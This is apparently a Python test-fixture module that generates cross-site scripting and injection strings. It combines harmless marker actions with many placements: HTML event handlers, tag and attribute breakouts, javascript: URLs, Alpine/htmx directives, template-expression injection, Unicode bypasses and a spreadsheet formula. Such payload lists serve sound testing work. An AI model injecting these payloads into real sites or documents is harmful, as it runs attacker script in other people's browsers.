"""Texts that run if a page takes them for markup, an expression, a script or a URL."""

from collections.abc import Iterator

# What each does: sets a flag, asks our server, opens a dialog.
ACTS = (
    "planted=1",
    "fetch(`/planted`)",
    "alert(`planted`)",
    "self['planted']=1",
    "new(Image)().src=`/planted`",
)
# Where it is put; `ACT` is one of the acts.
PLACES = (
    # HTML
    "<script>ACT</script>",
    "</script><script>ACT</script>",
    "<x-planted onclick=ACT>",
    "<img src=/planted onerror=ACT>",
    "<svg onload=ACT>",
    "<svg><script>ACT</script></svg>",
    "<svg><animate onbegin=ACT attributeName=x dur=1s>",
    "<math><mtext></mtext><mglyph><style><img src=x onerror=ACT></style></mglyph></math>",
    "<details open ontoggle=ACT>",
    "<input autofocus onfocus=ACT>",
    "<iframe srcdoc='<script>ACT</script>'>",
    "<iframe src=javascript:ACT></iframe>",
    "<object data=javascript:ACT></object>",
    "<form action=javascript:ACT><button>x</button></form>",
    "<a href=javascript:ACT>x-planted</a>",
    "<meta http-equiv=refresh content='0;url=/planted'>",
    "<base href=//planted.invalid/>",
    "<link rel=stylesheet href=/planted>",
    "<style>@import'/planted';</style>",
    "<video><source onerror=ACT></video>",
    "<body onpageshow=ACT>",
    "<template><img src=x onerror=ACT></template>",
    "<marquee onstart=ACT>",
    "<select autofocus onfocus=ACT>",
    "<a href='java&#115;cript:ACT'>x-planted</a>",
    "<button popovertarget=x onclick=ACT>",
    "<x-planted @load.window=ACT>",
    # Ends what it stands in
    "\"'><x-planted x-init=ACT>",
    "</textarea><x-planted onmouseover=ACT>",
    "</title></style></noscript><img src=x onerror=ACT>",
    "--><x-planted x-init=ACT>",
    "]]><x-planted x-init=ACT>",
    "</option></select><img src=x onerror=ACT>",
    # Attributes
    "\" autofocus onfocus=ACT x=\"",
    "' autofocus onfocus=ACT x='",
    "` onmouseover=ACT x=`",
    "x onfocus=ACT autofocus",
    '" style="background:url(/planted)" x="',
    # URLs
    "javascript:ACT",
    "JaVaScRiPt:ACT//",
    " \tjavascript:ACT",
    "java\tscript:ACT",
    "data:text/html,<script>ACT</script>",
    "vbscript:ACT",
    "http://127.0.0.1:9/\"'><img/src=x/onerror=ACT>",
    "//planted.invalid/?ACT",
    # Alpine and htmx
    '" x-data="{a:ACT}" x-init="ACT',
    "' x-init='ACT",
    "<x-planted x-data x-init=ACT>",
    "<x-planted :class=ACT @click=ACT x-html=ACT>",
    "<x-planted hx-get=/planted hx-trigger=load>",
    "<x-planted hx-on::load=ACT data-hx-get=/planted>",
    "{{ACT}}",
    "{{constructor.constructor('ACT')()}}",
    "{%load%}{{6|add:36}}",
    # Scripts
    "';ACT;//",
    '";ACT;//',
    "\\';ACT;//",
    "`;ACT;//",
    "${ACT}",
    "'-ACT-'",
    "\u2028ACT\u2028",
    "});ACT;({",
    # Unicode
    "\uff1cscript\uff1eACT\uff1c/script\uff1e",
    "\u202e<x-planted onclick=ACT>",
    "<\u0130mg src=x onerror=ACT>",
    "&lt;x-planted x-init=ACT&gt;",
    "=HYPERLINK(\"javascript:ACT\")",
)  # fmt: skip
PAYLOADS = [place.replace("ACT", act) for act in ACTS for place in PLACES]


def endless(start: int) -> Iterator[str]:
    """All of them again and again, from the one with this number."""
    number = start
    while True:
        yield PAYLOADS[number % len(PAYLOADS)]
        number += 1
